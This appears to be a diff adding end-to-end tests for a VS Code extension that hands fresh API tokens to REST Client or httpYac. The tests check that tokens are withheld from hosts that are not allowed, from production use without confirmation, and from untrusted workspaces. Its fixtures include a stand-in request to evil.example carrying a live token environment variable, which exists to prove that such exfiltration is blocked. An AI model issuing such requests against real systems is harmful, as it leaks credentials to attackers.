@@ -1,0 +1,141 @@
+import assert from 'node:assert/strict';
+import { setTimeout as wait } from 'node:timers/promises';
+import { until } from '../host/until';
+import { workbench } from '../host/workbench';
+import { call, codeOf, outletEntry, setClients, setSetting, storeSecrets, useBench } from './bench';
+import { handed, installSender, plugins } from './fakeSenders';
+import { openUntitled, reference, untilDecorated, untilPublished, variable } from './httpFilesBench';
+
+const path = '/integrations/partner/v1/linked-outlets';
+
+describe('sending with a fresh token', () => {
+  const bench = useBench();
+  const text = (): string =>
+    `### Outlets\nGET ${bench.sandbox.gobiz.url}${path}\nAuthorization: Bearer ${reference}\n\n### Evil\nGET https://evil.example/\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`;
+
+  async function prepare(): Promise<void> {
+    await workbench.reset();
+    await storeSecrets(bench.sandbox);
+    await setClients([
+      outletEntry(bench.sandbox),
+      outletEntry(bench.sandbox, { name: 'live', environment: 'production' }),
+    ]);
+    await workbench.writeFile('outlets.http', text());
+  }
+
+  function send(line: number): Promise<unknown> {
+    return workbench.host.run(
+      (vscode, [file, at]) => vscode.commands.executeCommand('kunci.sendRequest', `file://${file}`, at),
+      [`${workbench.folder}/outlets.http`, line] as const,
+    );
+  }
+
+  before(async () => {
+    await workbench.restart();
+    await prepare();
+  });
+  after(() => workbench.restart());
+
+  it('says that no sender is installed, and offers to', async () => {
+    assert.equal(await codeOf(send(2)), 'sender-missing');
+    await workbench.driver.openFile('outlets.http');
+    await workbench.page.getByText('Send with fresh token').first().click();
+    await workbench.driver.notifications().getByText('neither is installed').waitFor();
+    await workbench.page.getByRole('button', { name: 'Install REST Client' }).waitFor();
+    await workbench.driver.screenshot('http-sender-missing');
+  });
+
+  it('notices a sender in another extension host', async () => {
+    await workbench.host.run((vscode) => {
+      const world = globalThis as unknown as { kunciElsewhere?: { dispose(): void } };
+      world.kunciElsewhere = vscode.commands.registerCommand('rest-client.request', () => undefined);
+    });
+    await assert.rejects(send(2), /REST Client runs in another extension host/);
+    await workbench.host.run(() => {
+      (globalThis as unknown as { kunciElsewhere?: { dispose(): void } }).kunciElsewhere?.dispose();
+    });
+  });
+
+  it('refuses a host that may not have the token, and offers to allow it', async () => {
+    assert.equal(await codeOf(send(6)), 'host-not-allowed');
+    await workbench.driver.closeEverything();
+    await workbench.driver.openFile('outlets.http');
+    await untilDecorated(/until/, /withheld/);
+    // A lens is drawn anew a moment after the state changed, and takes no click before.
+    await wait(1000);
+    await workbench.page.getByText('Send with fresh token').nth(1).click();
+    await workbench.driver.answerNotification('Allow evil.example…');
+    await workbench.driver.dialog().getByText('Allow evil.example to get the tokens').waitFor();
+    await workbench.driver.screenshot('http-allow-host');
+    await workbench.driver.answerDialog('Allow');
+    await until(async () => {
+      const allowed = await workbench.host.run(
+        (vscode) =>
+          vscode.workspace.getConfiguration('kunci').inspect<{ allowedHosts?: string[] }[]>('clients')
+            ?.globalValue?.[1]?.allowedHosts,
+      );
+      return JSON.stringify(allowed) === '["evil.example"]';
+    });
+  });
+
+  it('asks before a production token is used, then publishes it', async () => {
+    await workbench.driver.closeEverything();
+    await openUntitled(`GET ${bench.sandbox.gobiz.url}${path}\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`);
+    await untilDecorated(/^production: confirm to use$/);
+    assert.equal(await variable('GOBIZ_LIVE_TOKEN'), null);
+    void call('confirmProductionUse', 'live');
+    await workbench.driver.answerDialog('Yes, Production');
+    await untilPublished('GOBIZ_LIVE_TOKEN');
+    await untilDecorated(/until/);
+  });
+
+  it('hands over to REST Client, in the window and at the request, with the variable set only for it', async () => {
+    await installSender('restClient');
+    await workbench.driver.closeEverything();
+    await setSetting('publish', 'whileSending');
+    await handed();
+    await send(2);
+    const [one] = await handed();
+    assert.equal(one?.command, 'rest-client.request');
+    assert.equal(one?.line, 1);
+    assert.match(one?.document ?? '', /outlets\.http$/);
+    assert.match(one?.token ?? '', /^sbx_/);
+    assert.equal(await variable(), null);
+    await setSetting('publish', 'whileOpen');
+  });
+
+  it('refuses to hand over to REST Client while another request would send the token elsewhere', async () => {
+    await openUntitled(`GET https://evil.example/\nX: ${reference}\n`);
+    await assert.rejects(send(2), /another request uses it/);
+    assert.deepEqual(await handed(), []);
+    await workbench.driver.closeEverything();
+  });
+
+  it('hooks into httpYac when it is installed later, and hands over to the one that is set', async () => {
+    await workbench.driver.openFile('outlets.http');
+    await installSender('httpYac');
+    await until(async () => (await plugins()).includes('kunci'));
+    await setSetting('sender', 'httpYac');
+    await send(2);
+    const [one] = await handed();
+    assert.deepEqual([one?.command, one?.line], ['httpyac.send', 1]);
+    await setSetting('sender', 'restClient');
+    await send(2);
+    assert.equal((await handed())[0]?.command, 'rest-client.request');
+  });
+
+  it('does nothing by itself in an untrusted workspace', async () => {
+    await workbench.restart({ trust: true });
+    await prepare();
+    const requests = bench.tokenRequests();
+    await workbench.driver.openFile('outlets.http');
+    await untilDecorated(/untrusted/, /withheld|untrusted/);
+    await wait(1000);
+    assert.equal(await variable(), null);
+    assert.equal(bench.tokenRequests(), requests);
+    assert.equal(await codeOf(send(2)), 'untrusted-workspace');
+    await call('fetchToken', 'outlet');
+    assert.equal(await variable(), null);
+    await workbench.driver.screenshot('http-untrusted');
+  });
+});
